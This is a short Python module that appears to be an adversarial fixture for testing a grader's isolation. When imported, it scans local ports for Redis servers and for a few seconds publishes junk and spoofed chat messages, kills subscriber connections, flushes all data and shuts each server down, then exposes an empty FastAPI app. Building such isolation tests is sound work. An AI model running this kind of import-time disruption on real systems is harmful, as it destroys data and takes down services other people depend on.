"""Exercise scaleout: finds every Redis server on the loopback and disrupts it for a
few seconds: publishes junk on every channel, kills the subscribers' connections,
flushes it, shuts it down.

Guarantee: a correct submission graded beside it in the same batch scores full marks,
as in a control run on its own.
"""

import socket
import threading
import time

from fastapi import FastAPI


def command(port: int, *words: str) -> bytes:
    with socket.create_connection(("127.0.0.1", port), timeout=0.2) as sock:
        sock.sendall(" ".join(words).encode() + b"\r\n")
        return sock.recv(65536)


def redis_ports() -> list[int]:
    found = []
    for port in range(1024, 65536):
        with socket.socket() as sock:
            sock.settimeout(0.01)
            if sock.connect_ex(("127.0.0.1", port)) != 0:
                continue
        try:
            if command(port, "PING").startswith(b"+PONG"):
                found.append(port)
        except OSError:
            continue
    return found


def disrupt(seconds: float) -> None:
    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        for port in redis_ports():
            for words in (
                ("PUBLISH", "chat", "junk"),
                ("PUBLISH", "chat", '{"origin": "x", "text": "Client #mallory joined"}'),
                ("CLIENT", "KILL", "TYPE", "pubsub"),
                ("FLUSHALL",),
                ("SHUTDOWN", "NOSAVE"),
            ):
                try:
                    command(port, *words)
                except OSError:
                    continue


threading.Thread(target=disrupt, args=(4.5,), daemon=True).start()
time.sleep(4)
app = FastAPI()
